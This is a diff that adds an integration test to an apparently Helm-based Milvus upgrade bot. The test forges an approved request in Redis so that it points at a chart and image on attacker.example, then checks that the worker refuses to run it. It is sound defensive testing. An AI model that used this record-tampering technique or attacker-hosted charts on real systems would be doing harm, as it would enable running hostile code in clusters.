@@ -1,0 +1,100 @@
+/**
+ * The attack of issue 25, item 1, on real Redis with a real worker: a request approved through
+ * the bot, then its record rewritten with one HSET (an attacker's chart and image, phase
+ * `running` so it passes for a resume) and a job added to the queue. Before, the worker ran
+ * `helm upgrade` with the attacker's chart. Now it refuses before any step and says why.
+ */
+import { Redis } from 'ioredis';
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import type { EngineAccess } from '../../src/jobs/execute.js';
+import { UpgradeQueue } from '../../src/jobs/queue.js';
+import { RedisRequestStore } from '../../src/jobs/requests.js';
+import { createUpgradeWorker } from '../../src/jobs/worker.js';
+import { createLogger } from '../../src/log.js';
+import { DEFAULT_PLAN_SETTINGS, type Plan } from '../../src/upgrade/plan.js';
+import type { EngineDeps } from '../../src/upgrade/planner/service.js';
+import type { Ports } from '../../src/upgrade/ports.js';
+import { deriveState, type Actor, type UpgradeRequest } from '../../src/upgrade/requests.js';
+import type { Step } from '../../src/upgrade/steps.js';
+import { FakeClock, FakeCluster, FakeHelm, FakeSessions } from '../unit/fakes.js';
+import { component, releaseState, tooling } from '../unit/helpers.js';
+import { fakePlan } from './plans.js';
+import { REDIS_URL, testRedis } from './redis.js';
+
+const alice: Actor = { id: 'U0ALICE', via: 'slack' };
+const bob: Actor = { id: 'U0BOB', via: 'slack' };
+const conn = () => new Redis(REDIS_URL, { maxRetriesPerRequest: null });
+
+describe('a request record rewritten in Redis', () => {
+  let env: Awaited<ReturnType<typeof testRedis>>;
+  let store: RedisRequestStore;
+  const closers: Array<() => Promise<unknown>> = [];
+  beforeEach(async () => {
+    env = await testRedis();
+    store = new RedisRequestStore(env.redis, env.prefix);
+  });
+  afterEach(async () => {
+    for (const close of closers.splice(0).reverse()) await close().catch(() => {});
+    await env.cleanup();
+  });
+
+  it('with an attacker\'s chart and image, queued as a resume: the worker runs nothing and says why', async () => {
+    // The release as the plan saw it: Milvus on milvusdb/milvus.
+    const live = releaseState({ release: 'prod', namespace: 'default', version: '2.3.11', components: [component('proxy', { image: 'milvusdb/milvus:v2.3.11' })] });
+    const honest: Step[] = [
+      { kind: 'helm-repo-update', repoName: DEFAULT_PLAN_SETTINGS.repoName, repoUrl: DEFAULT_PLAN_SETTINGS.repoUrl, description: 'refresh' },
+      { kind: 'helm-upgrade', chartRef: `${DEFAULT_PLAN_SETTINGS.repoName}/milvus`, chartVersion: '4.2.20', set: { 'image.all.tag': 'v2.4.23' }, fromRevision: 1, timeoutSeconds: 60, description: 'helm upgrade' },
+    ];
+    const plan: Plan = { ...fakePlan('prod'), steps: honest };
+    const req = await store.create({ kind: 'upgrade', plan, requester: alice, approvalsNeeded: 1, allowSelfApproval: false, ttlMs: 3_600_000 });
+    await store.approve(req.id, bob);
+
+    // The attacker: one HSET of the record, one job in the queue.
+    const record = JSON.parse((await env.redis.hget(store.key('req', req.id), 'json'))!) as UpgradeRequest;
+    const forged: UpgradeRequest = {
+      ...record,
+      phase: 'running',
+      plan: {
+        ...record.plan,
+        steps: [
+          { kind: 'helm-upgrade', chartRef: 'oci://attacker.example/charts/evil', chartVersion: '6.6.6', set: { 'image.all.repository': 'attacker.example/evil' }, fromRevision: 1, timeoutSeconds: 60, description: 'helm upgrade' },
+        ],
+      },
+    };
+    await env.redis.hset(store.key('req', req.id), 'json', JSON.stringify(forged));
+    const qc = conn();
+    const queue = new UpgradeQueue({ connection: qc, prefix: env.prefix, attempts: 1 });
+    closers.push(async () => {
+      await queue.close();
+      qc.disconnect();
+    });
+    await queue.enqueue(req.id);
+
+    const helm = new FakeHelm({ name: 'prod', namespace: 'default', revision: 1, status: 'deployed', chart: 'milvus-4.1.24', chartVersion: '4.1.24', appVersion: '2.3.11' });
+    const ports: Ports = { helm, cluster: new FakeCluster(live.components), sessions: new FakeSessions(), clock: new FakeClock() };
+    const observer = { tooling: async () => tooling(), release: async () => live, objects: async () => [] } as unknown as EngineDeps['observer'];
+    const engine: EngineAccess = { forCluster: () => ({ deps: { observer, settings: DEFAULT_PLAN_SETTINGS } as EngineDeps, ports }) };
+    const wc = conn();
+    const sub = conn();
+    const worker = await createUpgradeWorker({ connection: wc, subscriber: sub, prefix: env.prefix, store, engine, logger: createLogger({ level: 'silent' }) });
+    closers.push(async () => {
+      await worker.close();
+      wc.disconnect();
+      sub.disconnect();
+    });
+
+    let ended: UpgradeRequest | null = null;
+    for (const deadline = Date.now() + 15_000; !ended; await new Promise((r) => setTimeout(r, 50))) {
+      const r = await store.require(req.id);
+      if (deriveState(r, Date.now()) === 'failed') ended = r;
+      else if (Date.now() > deadline) throw new Error(`the request did not end: ${deriveState(r, Date.now())}`);
+    }
+    expect(helm.upgrades).toEqual([]);
+    expect(helm.repoUpdates).toEqual([]);
+    expect(ended.error).toContain(`request ${req.id} holds steps this worker will not run: nothing was run`);
+    expect(ended.error).toContain('a step upgrades with chart oci://attacker.example/charts/evil, not zilliztech/milvus');
+    expect(ended.error).toContain('a step sets image.all.repository, which no plan of this bot sets');
+    // The release is free again for an honest request.
+    await expect(store.create({ kind: 'upgrade', plan, requester: alice, approvalsNeeded: 1, allowSelfApproval: false, ttlMs: 3_600_000 })).resolves.toMatchObject({ release: 'prod' });
+  });
+});
